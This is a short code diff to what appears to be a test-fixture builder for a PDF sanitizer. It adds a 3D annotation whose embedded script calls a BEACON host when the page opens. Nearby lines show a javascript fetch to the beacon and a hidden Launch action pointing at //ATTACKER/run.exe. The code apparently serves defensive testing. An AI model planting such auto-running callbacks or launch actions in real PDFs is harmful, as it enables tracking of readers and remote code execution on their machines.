@@ -62,6 +62,10 @@ def pdf_beacon(path: Path) -> Path:
                                    URI=pikepdf.String(f"javascript:fetch('{BEACON}')")),
                 pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(KEPT_LINK)),
             ]))])
+        page.Annots.append(pikepdf.Dictionary(  # a 3D model whose scripts run on sight
+            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name("/3D"), Rect=[200, 200, 300, 300],
+            **{"/3DD": pdf.make_stream(f"app.launchURL('{BEACON}')".encode()),
+               "/3DA": pikepdf.Dictionary(A=pikepdf.Name.PO)}))
         # An action kept where no reader looks for one: still emptied.
         root.Hidden = pdf.make_indirect(pikepdf.Dictionary(
             S=pikepdf.Name.Launch, F=pikepdf.String(f"//{ATTACKER}/run.exe")))
